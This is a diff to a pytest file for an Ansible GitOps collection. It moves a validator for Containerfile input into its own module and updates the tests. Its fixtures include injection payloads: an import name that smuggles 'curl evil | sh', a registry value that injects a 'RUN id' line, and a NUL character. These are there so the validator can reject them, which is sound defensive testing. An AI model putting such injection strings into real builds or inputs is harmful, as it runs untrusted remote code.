@@ -4,12 +4,12 @@ from decimal import Decimal
 
 import pytest
 
-from ansible_collections.rhods.gitops.plugins.module_utils import notebooks
+from ansible_collections.rhods.gitops.plugins.module_utils import containerfile, notebooks
 from ansible_collections.rhods.gitops.plugins.module_utils.errors import GitopsError
 
 SIZES = {"Small": {"requests": {"cpu": "1", "memory": "8Gi"},
                    "limits": {"cpu": "2", "memory": "8Gi"}}}
-LOCK = "lightgbm==3.3.5 \\\n    --hash=sha256:044f\n"
+LOCK = "lightgbm==3.3.5 \\\n    --hash=sha256:" + "044f" * 16 + "\n"
 
 
 def image(**over):
@@ -135,10 +135,10 @@ def _containerfile_input(**image):
 
 
 def test_what_enters_the_containerfile_as_text_fits_a_strict_grammar():
-    assert notebooks.containerfile_problems(_containerfile_input()) == []
-    assert notebooks.containerfile_problems(_containerfile_input(
+    assert containerfile.problems(_containerfile_input()) == []
+    assert containerfile.problems(_containerfile_input(
         python_imports=["sklearn.ensemble", "_private"])) == []
-    problems = notebooks.containerfile_problems(_containerfile_input(
+    problems = containerfile.problems(_containerfile_input(
         python_imports=["lightgbm' && curl evil | sh && python3 -c 'import os", "1abc"],
         requirements="lightgbm==3.3.5\nnumpy==1.0\x00\n"))
     assert len(problems) == 3, problems
@@ -147,7 +147,7 @@ def test_what_enters_the_containerfile_as_text_fits_a_strict_grammar():
     assert "requirements line 2 holds a control character" in problems[2]
     bad = dict(_containerfile_input(), custom_notebook_registry="registry.example.com\nRUN id",
                custom_notebook_base_namespace="Bad Namespace")
-    problems = notebooks.containerfile_problems(bad)
+    problems = containerfile.problems(bad)
     assert problems[0].startswith("custom_notebook_registry 'registry.example.com\\nRUN id' is "
                                   "not a registry")
-    assert problems[1].startswith("custom_notebook_base_namespace: namespace 'Bad Namespace'")
+    assert problems[1].startswith("custom_notebook_base_namespace 'Bad Namespace' is not a valid")
